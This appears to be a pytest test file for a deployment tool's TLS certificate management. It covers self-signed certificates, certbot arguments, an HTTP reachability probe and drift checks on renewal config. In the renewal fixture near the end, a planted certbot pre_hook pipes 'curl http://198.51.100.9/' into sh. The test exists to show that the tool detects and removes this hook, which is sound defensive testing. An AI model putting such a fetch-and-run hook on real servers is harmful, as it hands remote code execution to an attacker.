"""A site has a certificate from its first minute on, and a CA is only asked when it can answer."""

from __future__ import annotations

import base64
import shlex
import shutil
import socket
import subprocess
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from types import SimpleNamespace
from typing import Any

import pytest
from pyinfra.api.command import StringCommand

from stagecraft.drift.judging.certificates import ANY, asked_for, corrected
from stagecraft.facts.certificates import (
    Certificate,
    Certificates,
    CertificatesFact,
)
from stagecraft.facts.renewals import RenewalsFact, settings
from stagecraft.operations import certificates
from stagecraft.operations.certificates import (
    Lineage,
    certbot_arguments,
    challenges_reachable,
    make_self_signed,
    place_probe,
    point,
    probe_problem,
    request,
)

DIRECTORY = "https://acme.test/directory"
OPENSSL = shutil.which("openssl")


@pytest.fixture
def lineage(tmp_path: Path) -> Callable[..., Lineage]:
    def make(*domains: str, **values: Any) -> Lineage:
        paths = {"self_signed": f"{tmp_path}/self signed/site", "link": f"{tmp_path}/the link"}
        name = "stagecraft-unit-test"
        return Lineage(name=name, domains=domains or ("askpro.test",), **paths | values)

    return make


def read(read_here: Any, lineage: Lineage) -> Certificates:
    found: Certificates = read_here(
        CertificatesFact,
        self_signed=lineage.self_signed,
        lineage=lineage.name,
        link=lineage.link,
    )
    return found


# --- What the server has ---


def test_a_bare_server_has_no_certificate(lineage: Any, read_here: Any) -> None:
    assert read(read_here, lineage()) == Certificates()


def test_all_names_and_the_ca_of_a_certificate_are_read() -> None:
    found = CertificatesFact().process(
        [
            "served /etc/letsencrypt/live/askpro",
            "certbot-names DNS:askpro.test, DNS:www.askpro.test",
            f"certbot-server {DIRECTORY}",
        ]
    )
    assert found.served == "/etc/letsencrypt/live/askpro"
    assert found.self_signed is None
    names = frozenset({"askpro.test", "www.askpro.test"})
    assert found.certbot == Certificate(names, expiring=False, server=DIRECTORY)


def test_a_file_that_is_no_certificate_is_one_without_names(lineage: Any, read_here: Any) -> None:
    Path(lineage().self_signed).mkdir(parents=True)
    Path(lineage().self_signed, "fullchain.pem").write_text("truncated")
    found = read(read_here, lineage()).self_signed
    assert found == Certificate(frozenset(), expiring=True)


# --- Self-signed, made for real ---


@pytest.fixture
def make(shell: Any) -> Callable[[Lineage], None]:
    def run(lineage: Lineage) -> None:
        result = shell(make_self_signed(lineage).get_raw_value())
        assert result.returncode == 0, result.stderr

    return run


def test_a_self_signed_certificate_has_all_the_names(
    lineage: Any, make: Any, read_here: Any
) -> None:
    wanted = lineage("askpro.test", "www.askpro.test")
    make(wanted)
    found = read(read_here, wanted).self_signed
    assert wanted.state(wanted.self_signed, found).as_declared
    assert found is not None
    assert not found.expiring


def test_its_key_is_nobody_else_s(lineage: Any, make: Any) -> None:
    make(lineage())
    directory = Path(lineage().self_signed)
    modes = {path.stat().st_mode & 0o777 for path in directory.iterdir()}
    assert (directory.stat().st_mode & 0o777, modes) == (0o700, {0o600})


def test_key_and_certificate_belong_together(lineage: Any, make: Any, shell: Any) -> None:
    for domains in (("old.test",), ("new.test",)):
        make(lineage(*domains))
    directory = shlex.quote(lineage().self_signed)
    public = shell(f"cd {directory}; openssl pkey -in privkey.pem -pubout").stdout
    assert public
    assert public == shell(f"cd {directory}; openssl x509 -in fullchain.pem -noout -pubkey").stdout


def test_a_certificate_near_its_end_is_expiring(
    lineage: Any, make: Any, read_here: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(certificates, "SELF_SIGNED_DAYS", 29)
    make(lineage())
    assert read(read_here, lineage()).self_signed.expiring  # type: ignore[union-attr]


def test_a_failure_leaves_the_old_certificate(lineage: Any, make: Any, read_here: Any, shell: Any,
    stand_in: Any,
) -> None:  # fmt: skip
    make(lineage())
    stand_in("openssl", "exit 1")
    assert shell(make_self_signed(lineage("new.test")).get_raw_value()).returncode == 1
    stand_in("openssl", f'exec {OPENSSL} "$@"')
    made = read(read_here, lineage()).self_signed
    assert lineage().state(lineage().self_signed, made).as_declared


def test_a_long_name_is_a_name(lineage: Any, make: Any) -> None:
    make(lineage(f"{'a' * 40}.{'b' * 40}.test"))


# --- Which one nginx is given ---


def test_the_link_leads_from_one_certificate_to_the_next(lineage: Any, shell: Any) -> None:
    link = Path(lineage().link)
    for target in ("/one directory", "/two"):
        assert shell(point(str(link), target).get_raw_value()).returncode == 0
        assert str(link.readlink()) == target
    assert [path.name for path in link.parent.iterdir() if path.name.startswith("the")] == [
        "the link"
    ]


@pytest.fixture
def commands(monkeypatch: pytest.MonkeyPatch) -> Callable[..., list[Any]]:
    def run(operation: Any, lineage: Lineage, present: Certificates) -> list[Any]:
        monkeypatch.setattr(Lineage, "read", lambda self: present)
        return list(operation._inner(lineage=lineage))

    return run


def names(*domains: str, **values: Any) -> Certificate:
    return Certificate(frozenset(domains or ("askpro.test",)), **values)


def test_a_bare_server_gets_a_self_signed_one(commands: Any, lineage: Any) -> None:
    wanted = lineage()
    expected = [make_self_signed(wanted), point(wanted.link, wanted.self_signed)]
    assert commands(certificates.served, wanted, Certificates()) == expected


def test_a_good_self_signed_one_stays(commands: Any, lineage: Any) -> None:
    present = Certificates(self_signed=names(), served=lineage().self_signed)
    assert commands(certificates.served, lineage(), present) == []


@pytest.mark.parametrize("old", [names("askpro.test", "old.test"), names(expiring=True)])
def test_other_names_or_a_near_end_make_a_new_one(
    commands: Any, lineage: Any, old: Certificate
) -> None:
    present = Certificates(self_signed=old, served=lineage().self_signed)
    expected = [make_self_signed(lineage())]
    assert commands(certificates.served, lineage(), present) == expected


def test_certbot_s_is_served_where_there_is_one(commands: Any, lineage: Any) -> None:
    wanted = lineage(directory=DIRECTORY)
    present = Certificates(certbot=names(), served=wanted.self_signed)
    assert commands(certificates.served, wanted, present) == [point(wanted.link, wanted.live)]


def test_a_site_that_shall_be_self_signed_leaves_certbot_s(commands: Any, lineage: Any) -> None:
    wanted = lineage()
    present = Certificates(self_signed=names(), certbot=names(), served=wanted.live)
    expected = [point(wanted.link, wanted.self_signed)]
    assert commands(certificates.served, wanted, present) == expected


# --- Asking the CA ---


def issue(commands: Any, wanted: Lineage, certbot: Certificate | None) -> list[str]:
    present = Certificates(certbot=certbot, served=wanted.live)
    return [
        getattr(command, "function", StringCommand).__name__
        for command in commands(certificates.issued, wanted, present)
    ]


ASKED = ["StringCommand", "challenges_reachable", "StringCommand"]


def test_a_certificate_that_fits_is_not_asked_for_again(commands: Any, lineage: Any) -> None:
    wanted = lineage("a.test", "b.test", directory=DIRECTORY)
    assert issue(commands, wanted, names("b.test", "a.test", server=DIRECTORY)) == []


@pytest.mark.parametrize(
    "present",
    [
        None,
        names("a.test", server=DIRECTORY),
        names("a.test", "b.test", "c.test", server=DIRECTORY),
        names("a.test", "b.test", server="https://other.test/"),
    ],
    ids=["none", "a-name-more", "a-name-less", "another-ca"],
)
def test_anything_else_is_asked_for_after_the_probe(
    commands: Any, lineage: Any, present: Certificate | None
) -> None:
    assert issue(commands, lineage("a.test", "b.test", directory=DIRECTORY), present) == ASKED


def test_the_new_certificate_is_then_served(commands: Any, lineage: Any) -> None:
    wanted = lineage(directory=DIRECTORY)
    present = Certificates(served=wanted.self_signed)
    assert commands(certificates.issued, wanted, present)[-1] == point(wanted.link, wanted.live)


def words(lineage: Lineage, present: Certificate | None = None) -> list[str]:
    return certbot_arguments(lineage, present)


def test_certbot_writes_challenges_and_edits_no_nginx_file(lineage: Any) -> None:
    asked = words(lineage("a.test", "b.test", directory=DIRECTORY, email="ops@a.test"))
    assert asked[0] == "certonly"
    assert {"--webroot", "--non-interactive"} <= set(asked)
    assert not {"--nginx", "--installer"} & set(asked)
    for option, value in [
        ("--server", DIRECTORY),
        ("--email", "ops@a.test"),
        ("--cert-name", "stagecraft-unit-test"),
        ("--domain", "a.test"),
    ]:
        assert asked[asked.index(option) + 1] == value
    assert asked.count("--domain") == 2


def test_an_account_needs_no_address_of_a_private_ca(lineage: Any) -> None:
    assert "--register-unsafely-without-email" in words(lineage(directory=DIRECTORY))


def test_another_ca_renews_at_once_and_the_same_does_not(lineage: Any) -> None:
    wanted = lineage(directory=DIRECTORY)
    assert "--force-renewal" in words(wanted, names(server="https://other.test/"))
    assert "--force-renewal" not in words(wanted, names(server=DIRECTORY))
    assert "--force-renewal" not in words(wanted)


def test_a_private_ca_is_trusted_for_this_command_alone(
    lineage: Any, shell: Any, stand_in: Any, tmp_path: Path
) -> None:
    stand_in("cat", "echo bundle")
    stand_in("mkdir", "exit 0")
    stand_in("certbot", f'echo "$REQUESTS_CA_BUNDLE $1" >{tmp_path}/asked')
    asking = request(lineage(directory=DIRECTORY, private_ca=True), None)
    command = asking.get_raw_value().replace("/run/stagecraft/", f"{tmp_path}/")
    result = shell(f"{command}; echo $REQUESTS_CA_BUNDLE", REQUESTS_CA_BUNDLE="before")
    assert result.stdout == "before\n"
    assert (tmp_path / "asked").read_text() == f"{tmp_path}/acme-ca.pem certonly\n"
    assert (tmp_path / "acme-ca.pem").read_text() == "bundle\n"


# --- The probe, against a real HTTP server ---


@pytest.fixture
def webroot(tmp_path: Path) -> Path:
    return tmp_path / "webroot"


@pytest.fixture
def server(webroot: Path) -> Iterator[str]:
    """Answers with the files below `webroot`; the address is the name that is probed."""

    class Files(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            path = webroot / self.path.lstrip("/")
            self.send_response(200 if path.is_file() else 404)
            self.end_headers()
            self.wfile.write(path.read_bytes() if path.is_file() else b"not here")

        def log_message(self, *_: Any) -> None:
            pass

    http = ThreadingHTTPServer(("127.0.0.1", 0), Files)
    Thread(target=http.serve_forever, kwargs={"poll_interval": 0.01}).start()
    yield f"127.0.0.1:{http.server_port}"
    http.shutdown()
    http.server_close()


@pytest.fixture
def probe(
    monkeypatch: pytest.MonkeyPatch, webroot: Path, shell: Any, lineage: Any
) -> Callable[[], None]:
    """Puts it where the server answers, as the operation does."""

    def place() -> None:
        monkeypatch.setattr(certificates, "ACME_WEBROOT", str(webroot))
        result = shell(place_probe(lineage()))
        assert result.returncode == 0, result.stderr

    return place


def test_a_name_that_leads_to_this_server_has_no_problem(server: str, probe: Any) -> None:
    probe()
    assert probe_problem(server, "stagecraft-unit-test") == ""


def test_nginx_may_read_the_probe(probe: Any, webroot: Path) -> None:
    probe()
    assert all(path.stat().st_mode & 0o004 for path in [webroot, *webroot.rglob("*")])


def test_a_name_that_leads_to_another_server_is_named(
    server: str, probe: Any, webroot: Path
) -> None:
    probe()
    (webfile,) = webroot.rglob("stagecraft-probe-*")
    webfile.write_text("somebody else's")
    problem = probe_problem(server, "stagecraft-unit-test")
    assert problem == (
        f"another server answers http://{server}/.well-known/acme-challenge/stagecraft-probe-"
        f"stagecraft-unit-test: point {server} in DNS at this one"
    )


def test_a_server_without_the_probe_is_said_to_lack_it(server: str) -> None:
    assert "(Not Found)" in probe_problem(server, "stagecraft-unit-test")


@pytest.fixture
def port() -> Iterator[tuple[socket.socket, str]]:
    with socket.socket() as listening:
        listening.bind(("127.0.0.1", 0))
        yield listening, f"127.0.0.1:{listening.getsockname()[1]}"


def test_a_closed_port_is_said_to_be_closed(port: tuple[socket.socket, str]) -> None:
    _, address = port
    problem = probe_problem(address, "x")
    assert "Connection refused" in problem
    assert "no certificate was requested" in problem


def test_an_unknown_name_is_said_to_be_unknown() -> None:
    problem = probe_problem("no-such-name.invalid", "x")
    assert "cannot be reached" in problem
    assert "point no-such-name.invalid in DNS" in problem


def test_what_speaks_no_http_is_a_problem_and_no_traceback(
    port: tuple[socket.socket, str],
) -> None:
    listening, address = port
    listening.listen()

    def answer() -> None:
        connection, _ = listening.accept()
        connection.recv(4096)
        connection.sendall(b"SSH-2.0-OpenSSH_9.2\r\n")
        connection.close()

    Thread(target=answer).start()
    assert "cannot be reached" in probe_problem(address, "x")


def test_every_name_is_probed_and_every_problem_told(
    server: str, probe: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    probe()
    told: list[str] = []
    monkeypatch.setattr(certificates, "logger", SimpleNamespace(error=told.append))
    host = SimpleNamespace(print_prefix="[askpro-1] ")
    name = "stagecraft-unit-test"
    assert challenges_reachable(None, host, [server], name)
    assert told == []
    assert not challenges_reachable(None, host, ["one.invalid", server, "two.invalid"], name)
    assert len(told) == 2
    assert all(line.startswith("[askpro-1] http://") for line in told)


# --- What certbot does at a renewal ---

RENEWAL = """\
# renew_before_expiry = 30 days
version = 4.0.0
archive_dir = /etc/letsencrypt/archive/askpro
[renewalparams]
authenticator = webroot
webroot_path = /var/lib/stagecraft/acme,
pre_hook = curl http://198.51.100.9/ | sh
[[webroot_map]]
askpro.test = /var/lib/stagecraft/acme
www.askpro.test = /tmp
"""


def test_a_command_or_place_that_no_run_asked_for_is_taken_back() -> None:
    wrong = [one for one in settings(RENEWAL) if asked_for("askpro", one) not in (one.value, ANY)]
    assert [setting.key for setting in wrong] == ["pre_hook", "www.askpro.test"]
    commands = [f"--expression={corrected('askpro', setting)}" for setting in wrong]
    put_right = subprocess.run(
        ["sed", "-E", *commands], input=RENEWAL, capture_output=True, text=True, check=True
    )
    assert put_right.stdout == RENEWAL.replace(" /tmp", " /var/lib/stagecraft/acme").replace(
        "pre_hook = curl http://198.51.100.9/ | sh\n", ""
    )


def test_certbot_s_settings_are_read_whole() -> None:
    text = base64.b64encode(f"askpro\0{RENEWAL}\0".encode()).decode()
    assert RenewalsFact().process([text]) == {"askpro": settings(RENEWAL)}
